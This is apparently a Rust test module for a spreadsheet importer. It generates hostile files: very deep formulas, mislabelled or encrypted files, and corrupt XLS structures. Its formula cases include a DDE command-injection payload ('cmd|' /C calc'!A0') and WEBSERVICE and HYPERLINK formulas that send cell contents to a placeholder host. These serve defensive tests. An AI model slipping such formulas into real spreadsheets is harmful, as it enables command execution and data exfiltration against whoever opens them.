//! Files that are not what their names say, and cells that are not what they seem.

use super::{End, Hostile, file, received};
use crate::sheet::Cell;
use crate::zip::{Entry, archive};
use crate::{ods, text, xls, xlsx};

pub(super) fn all() -> impl Iterator<Item = Hostile> {
    formulas().into_iter().chain(disguises()).chain(old_workbooks())
}

fn formulas() -> Vec<Hostile> {
    let with = |cell: &str, formula: &str, cached| {
        let mut sheet = received();
        sheet.set(cell, Cell::Formula(formula.to_owned(), cached));
        xlsx::by_hand(&sheet.into())
    };
    let Cell::Number(value) = received().value("C7") else {
        panic!("a number")
    };
    let deep = format!("{}1{}", "SUM(".repeat(100_000), ")".repeat(100_000));
    let mut names = received();
    names.set("A7", "=HYPERLINK(\"http://example.invalid/?\"&B7,\"Click\")");
    vec![
        file(
            "deep-formula",
            "a.xlsx",
            with("C7", &deep, None),
            End::Refused(&["Received", "C7"]),
        ),
        file(
            "deep-formula-with-a-value",
            "a.xlsx",
            with("C7", &deep, Some(value)),
            End::Either,
        ),
        file(
            "command-as-formula",
            "a.xlsx",
            with("C7", "cmd|' /C calc'!A0", None),
            End::Refused(&["Received", "C7"]),
        ),
        file(
            "web-service-as-formula",
            "a.xlsx",
            with("C7", "WEBSERVICE(\"http://example.invalid/\"&A7)", None),
            End::Refused(&["Received", "C7"]),
        ),
        file("link-for-a-name", "a.csv", text::write(&names), End::Refused(&["A7"])),
    ]
}

fn disguises() -> Vec<Hostile> {
    let book = || received().into();
    // The least that is a picture: its signature, and a header without the data.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0".to_vec();
    let encrypted = xls::compound(&[
        ("EncryptionInfo", b"\x04\0\x04\0\x40\0\0\0<encryption/>".as_slice()),
        ("EncryptedPackage", &[0x5a; 9000]),
    ]);
    let html = "<html><body><table><tr><td>Authority name</td><td>Total</td></tr></table></body></html>";
    vec![
        file("xlsx-named-xls", "a.xls", xlsx::write(&book()), End::Either),
        file("xls-named-xlsx", "a.xlsx", xls::write(&book()), End::Either),
        file("ods-named-xlsx", "a.xlsx", ods::write(&book()), End::Either),
        file("text-named-xlsx", "a.xlsx", text::write(&received()), End::Either),
        file("xlsx-named-csv", "a.csv", xlsx::write(&book()), End::Either),
        file("encrypted", "a.xlsx", encrypted, End::Refused(&["password"])),
        file(
            "pdf-named-xlsx",
            "a.xlsx",
            b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n".to_vec(),
            End::Refused(&[]),
        ),
        file("png-named-xlsx", "a.xlsx", png, End::Refused(&[])),
        file("html-named-xls", "a.xls", html.as_bytes().to_vec(), End::Refused(&[])),
        file("html-named-csv", "a.csv", html.as_bytes().to_vec(), End::Refused(&[])),
        file("empty-xlsx", "a.xlsx", Vec::new(), End::Refused(&[])),
        file("empty-csv", "a.csv", Vec::new(), End::Refused(&[])),
        file(
            "word-document",
            "a.docx",
            archive(&[Entry::stored("word/document.xml", b"<w/>")]),
            End::Refused(&[]),
        ),
    ]
}

fn old_workbooks() -> Vec<Hostile> {
    let stream = || xls::stream(&received().into());
    let find = |bytes: &[u8], kind: u16| {
        let mut at = 0;
        while bytes[at..at + 2] != kind.to_le_bytes() {
            at += 4 + usize::from(u16::from_le_bytes([bytes[at + 2], bytes[at + 3]]));
        }
        at
    };
    let book = |bytes: &[u8]| xls::compound(&[("Workbook", bytes)]);
    // The table of strings says that it has four thousand million of them.
    let mut strings = stream();
    let at = find(&strings, 0x00fc);
    strings[at + 4..at + 12].fill(0xff);
    // The sheet is said to start far behind the end.
    let mut start = stream();
    let at = find(&start, 0x0085);
    start[at + 4..at + 8].fill(0x7f);
    // The first record of the sheet is longer than what is left.
    let mut long = stream();
    let at = find(&long, 0x00fc);
    long[at + 2..at + 4].fill(0xff);
    // A chain of sectors that bites its tail: the table of sectors is the first sector of the file.
    let mut circle = book(&stream());
    for entry in circle[512..512 + 40].chunks_mut(4).skip(1) {
        entry.copy_from_slice(&3u32.to_le_bytes());
    }
    let whole = book(&stream());
    vec![
        file("xls-with-countless-strings", "a.xls", book(&strings), End::Either),
        file(
            "xls-with-a-sheet-behind-its-end",
            "a.xls",
            book(&start),
            End::Refused(&[]),
        ),
        file(
            "xls-with-a-record-beyond-its-end",
            "a.xls",
            book(&long),
            End::Refused(&[]),
        ),
        file("xls-in-a-circle", "a.xls", circle, End::Refused(&[])),
        file(
            "xls-truncated",
            "a.xls",
            whole[..whole.len() / 2].to_vec(),
            End::Refused(&[]),
        ),
        file(
            "xls-without-a-workbook",
            "a.xls",
            xls::compound(&[("WordDocument", &[0; 5000])]),
            End::Refused(&[]),
        ),
    ]
}
